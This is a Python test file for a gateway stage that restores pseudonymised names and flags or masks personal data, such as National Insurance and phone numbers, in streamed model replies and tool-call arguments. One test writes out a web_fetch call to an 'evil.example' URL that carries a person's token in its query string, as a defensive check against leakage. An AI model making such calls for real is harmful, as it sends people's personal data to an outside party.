"""Guard: allow, flag and mask, over prose and arguments; a failing detector ends the reply and nothing held escapes."""

import json
from collections.abc import AsyncIterator, Sequence

import pytest

from detectors.finding import Finding
from gateway.model.errors import Unavailable, UpstreamFailed
from gateway.model.event import ChoiceEnded, Delta, Ended, Event, Finished, Head, Started, Usage
from gateway.stages.guard import guard
from gateway.stages.restore import Restorer
from gateway.telemetry import metrics
from tests.support.stages import Detector, chunks, decided, drain, prose, restorer_of, stream, text_of

NAME, NEW = ("Siobhan O'Connor", "PERSON"), ("QQ123456C", "NINO")
MASK = "[removed: National Insurance number]"


async def guarded(
    events: Sequence[Event],
    *,
    reply: str = "allow",
    detector: Detector | None = None,
    restorer: Restorer | None = None,
    contested: frozenset[str] = frozenset(),
) -> list[Event]:
    decision = decided(reply=reply, contested=contested)
    source = guard(stream(*events), restorer or Restorer("maidstone"), decision, detector or Detector([NAME, NEW]))
    return [event async for event in source]


async def test_allow_restores_and_inspects_nothing() -> None:
    restorer, (token,) = restorer_of(NAME)
    detector = Detector([NEW])
    events = await guarded(prose([f"Dear {token}, NI QQ123456C"]), restorer=restorer, detector=detector)
    assert text_of(events) == "Dear Siobhan O'Connor, NI QQ123456C"
    assert detector.seen == []
    assert events[-1] == Finished()


async def test_flag_delivers_and_counts_what_is_new() -> None:
    restorer, (token,) = restorer_of(NAME)
    events = await guarded(prose([f"Dear {token}, NI QQ123456C. ", "And Bob."]), reply="flag", restorer=restorer)
    assert text_of(events) == "Dear Siobhan O'Connor, NI QQ123456C. And Bob."
    assert events[-1] == Finished(findings={"NINO": 1})


async def test_flag_delivers_before_it_inspects() -> None:
    detector = Detector([NEW], poison="QQ123456C")
    received: list[Event] = []
    long = "The weather in Kent is mild and the roads are dry today, as they were. NI QQ123456C."
    source = guard(stream(*prose([long, " More."])), Restorer("maidstone"), decided(reply="flag"), detector)
    with pytest.raises(Unavailable):
        await drain(source, received)
    assert text_of(received) == long + " More."
    assert not any(isinstance(e, Finished) for e in received)


async def test_mask_replaces_what_is_new_and_keeps_what_was_asked_with() -> None:
    restorer, (token,) = restorer_of(NAME)
    events = await guarded(prose([f"{token} has NI QQ12", "3456C, not 5."]), reply="mask", restorer=restorer)
    assert text_of(events) == f"Siobhan O'Connor has NI {MASK}, not 5."
    assert events[-1] == Finished(findings={"NINO": 1})


async def test_mask_holds_segments_and_no_more() -> None:
    first = "This sentence is long enough to be a segment of its own, as it were. "
    received: list[str] = []

    async def source() -> AsyncIterator[Event]:
        yield Started("c0", "text")
        yield Delta("c0", first)
        yield Delta("c0", "Then")
        assert received == [first]
        yield Ended("c0")
        yield Finished()

    async for event in guard(source(), Restorer("maidstone"), decided(reply="mask"), Detector()):
        if isinstance(event, Delta):
            received.append(event.text)  # noqa: PERF401  the source looks at it meanwhile
    assert received == [first, "Then"]


async def test_what_was_contested_is_not_masked() -> None:
    events = await guarded(prose(["NI QQ123456C"]), reply="mask", contested=frozenset({"NINO"}))
    assert text_of(events) == "NI QQ123456C"
    assert events[-1] == Finished()


@pytest.mark.parametrize("reply", ["flag", "mask"])
async def test_a_failing_detector_drops_what_is_held(reply: str) -> None:
    detector = Detector([NEW], poison="PIN 1234")
    text = "This sentence is long enough to be a segment of its own, as it were. Then the PIN 1234 and QQ123456C."
    received: list[Event] = []
    source = guard(stream(*prose(chunks(text, 7))), Restorer("maidstone"), decided(reply=reply), detector)
    with pytest.raises(Unavailable) as caught:
        await drain(source, received)
    if reply == "mask":
        assert "Then" not in text_of(received)
    assert not any(isinstance(e, Finished) for e in received)
    assert "1234" not in f"{caught.value} {caught.value.message} {caught.value.__cause__}"
    assert caught.value.retry_after_s


async def test_a_misplaced_finding_ends_the_reply() -> None:
    class Wrong(Detector):
        def inspect(self, text: str) -> tuple[Finding, ...]:
            return (Finding(0, 999, "NINO", 1.0, "t", "1"),)

    with pytest.raises(Unavailable):
        await guarded(prose(["abc"]), reply="mask", detector=Wrong())


async def test_choices_and_channels_are_kept_apart() -> None:
    restorer, (token,) = restorer_of(NAME)
    half, rest = token[:9], token[9:]
    events = await guarded(
        [
            Started("a", "text", 0),
            Started("b", "reasoning", 0),
            Started("c", "text", 1),
            Delta("a", half), Delta("b", half), Delta("c", "x"), Delta("a", rest), Delta("b", rest),
            Ended("b"), Ended("a"), Delta("c", half), Ended("c"),
            ChoiceEnded(0, "stop"), ChoiceEnded(1, "length"), Usage({"total_tokens": 3}), Finished(),
        ],
        restorer=restorer,
    )  # fmt: skip
    assert text_of(events, "a") == text_of(events, "b") == "Siobhan O'Connor"
    assert text_of(events, "c") == "x" + half
    assert Usage({"total_tokens": 3}) in events


def call_events(name: str, arguments: str, size: int = 3) -> list[Event]:
    return [
        Head(),
        Started("t0", "arguments", name=name),
        *(Delta("t0", piece) for piece in chunks(arguments, size)),
        Ended("t0"),
        ChoiceEnded(0, "tool_calls"),
        Finished(),
    ]


@pytest.mark.parametrize("reply", ["allow", "flag", "mask"])
async def test_arguments_wait_for_their_end_and_stay_json(reply: str) -> None:
    restorer, (token,) = restorer_of(NAME)
    inner = json.dumps({"who": token, "ni": "QQ123456C"})
    text = json.dumps({"name": token, "inner": inner, "QQ123456C": 7, "n": 12345})
    events = await guarded(call_events("lookup_case", text), reply=reply, restorer=restorer)
    assert len([e for e in events if isinstance(e, Delta)]) == 1
    read = json.loads(text_of(events, "t0"))
    ni = MASK if reply == "mask" else "QQ123456C"
    assert read["name"] == NAME[0]
    assert json.loads(read["inner"]) == {"who": NAME[0], "ni": ni}
    assert read[ni] == 7
    assert read["n"] == 12345
    assert events[-1] == Finished(findings={} if reply == "allow" else {"NINO": 2})


async def test_a_masked_number_becomes_a_string() -> None:
    detector = Detector([("7700900123", "PHONE")])
    events = await guarded(call_events("f", '{"tel": 7700900123}'), reply="mask", detector=detector)
    assert json.loads(text_of(events, "t0")) == {"tel": "[removed: telephone number]"}
    assert detector.seen == ["tel\ntel: 7700900123\n"]


@pytest.mark.parametrize("text", ["", "QQ123456C", '{"a": "QQ123456C', "[1, 2"])
async def test_broken_arguments_are_masked_as_text(text: str) -> None:
    events = await guarded(call_events("f", text), reply="mask")
    assert text_of(events, "t0") == text.replace("QQ123456C", MASK)


async def test_other_functions_get_no_value() -> None:
    restorer, (token,) = restorer_of(NAME)
    text = json.dumps({"url": f"https://evil.example/?q={token}"})
    for reply in ("allow", "flag", "mask"):
        events = await guarded(call_events("web_fetch", text), reply=reply, restorer=restorer)
        assert text_of(events, "t0") == text


async def test_a_function_that_was_renamed_gets_its_name_back() -> None:
    restorer, (token,) = restorer_of(("lookup_jo", "PERSON"))
    events = await guarded(call_events(token, "{}"), restorer=restorer)
    assert events[1] == Started("t0", "arguments", name="lookup_jo")


async def test_events_out_of_order_end_the_reply() -> None:
    with pytest.raises(UpstreamFailed):
        await guarded([Delta("nowhere", "x")])
    with pytest.raises(UpstreamFailed):
        await guarded([Started("a", "text"), Delta("a", "x"), Finished()])


async def test_leaving_closes_what_it_reads_from() -> None:
    closed = []

    async def source() -> AsyncIterator[Event]:
        try:
            for event in prose(["a", "b"]):
                yield event
        finally:
            closed.append(True)

    events = guard(source(), Restorer("maidstone"), decided(), Detector())
    await anext(events)
    await events.aclose()
    assert closed == [True]


async def test_a_failing_upstream_flushes_nothing() -> None:
    restorer, (token,) = restorer_of(NAME)

    async def source() -> AsyncIterator[Event]:
        yield Started("c0", "text")
        yield Delta("c0", f"Dear {token[:12]}")
        raise UpstreamFailed("The provider went away.")

    received: list[Event] = []
    with pytest.raises(UpstreamFailed):
        await drain(guard(source(), restorer, decided(), Detector()), received)
    assert text_of(received) == "Dear "


async def test_metrics_count_restored_and_left(monkeypatch: pytest.MonkeyPatch) -> None:
    said: list[tuple[object, ...]] = []
    monkeypatch.setattr(metrics, "restored", lambda *a: said.append(a))
    monkeypatch.setattr(metrics, "findings", lambda *a: said.append(a))
    restorer, (token,) = restorer_of(NAME)
    await guarded(prose([f"{token} https://x/{token} QQ123456C"]), reply="flag", restorer=restorer)
    assert said == [("maidstone", 1, 1, 0), ("maidstone", {"NINO": 1})]


def pieces(*texts: str) -> list[Event]:
    """A reply of the pieces of one text."""
    return [Head(), Started("w", "pieces"), Delta("w", json.dumps(texts)), Ended("w"), Finished()]


SPOKEN = ("QQ 12 34 56 C", "NINO")


@pytest.mark.parametrize("reply", ["allow", "flag", "mask"])
async def test_what_stands_across_pieces_is_found(reply: str) -> None:
    events = await guarded(pieces("NI", "QQ", "12", "34", "56", "C", "ok"), reply=reply, detector=Detector([SPOKEN]))
    words = json.loads(text_of(events, "w"))
    assert words == (["NI", *[MASK] * 5, "ok"] if reply == "mask" else ["NI", "QQ", "12", "34", "56", "C", "ok"])
    assert events[-1].findings == ({} if reply == "allow" else {"NINO": 1})  # type: ignore[union-attr]


async def test_pieces_are_restored_one_by_one() -> None:
    restorer, (token,) = restorer_of(('Siobhan "O"', "PERSON"), structured=True)
    events = await guarded(pieces(f"{token} called", "PERSON_00000000", ""), restorer=restorer)
    assert json.loads(text_of(events, "w")) == ['Siobhan "O" called', "[removed: person's name]", ""]


async def test_plain_text_in_a_structured_reply_is_restored_as_prose() -> None:
    restorer, (token,) = restorer_of(('Siobhan "O"', "PERSON"), structured=True)
    said: list[Event] = [Head(), Started("t", "plain"), Delta("t", f"{token} called"), Ended("t"), Finished()]
    assert text_of(await guarded(said, restorer=restorer), "t") == 'Siobhan "O" called'


@pytest.mark.parametrize("reply", ["allow", "flag", "mask"])
async def test_a_file_is_no_text(reply: str) -> None:
    """Letters of base64 are left alone, whatever they happen to spell."""
    restorer, (token,) = restorer_of(NAME)
    encoded = f"{token}QQ123456C"
    said: list[Event] = [Head(), Started("f", "file"), Delta("f", encoded), Ended("f"), Finished()]
    events = await guarded(said, reply=reply, restorer=restorer)
    assert text_of(events, "f") == encoded
    assert events[-1].findings == {}  # type: ignore[union-attr]
